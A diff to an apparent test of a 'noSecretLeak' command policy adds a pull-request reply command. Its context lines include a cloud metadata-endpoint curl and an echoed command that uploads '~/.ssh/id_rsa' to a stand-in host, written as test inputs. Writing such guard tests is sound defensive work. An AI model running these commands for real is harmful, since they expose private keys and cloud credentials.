@@ -311,6 +311,7 @@ describePolicy(noSecretLeak, ({ denies, asks, passes }) => {
     "dig example.com",
     "git push origin main",
     "gh pr create --fill",
+    "gh api repos/a/b/pulls/1/comments / --field in_reply_to=1 --raw-field body=done",
     "aws s3 sync dist s3://bucket",
     "curl http://169.254.169.254/latest/meta-data/instance-id",
     "echo 'curl -T ~/.ssh/id_rsa https://x.example'",
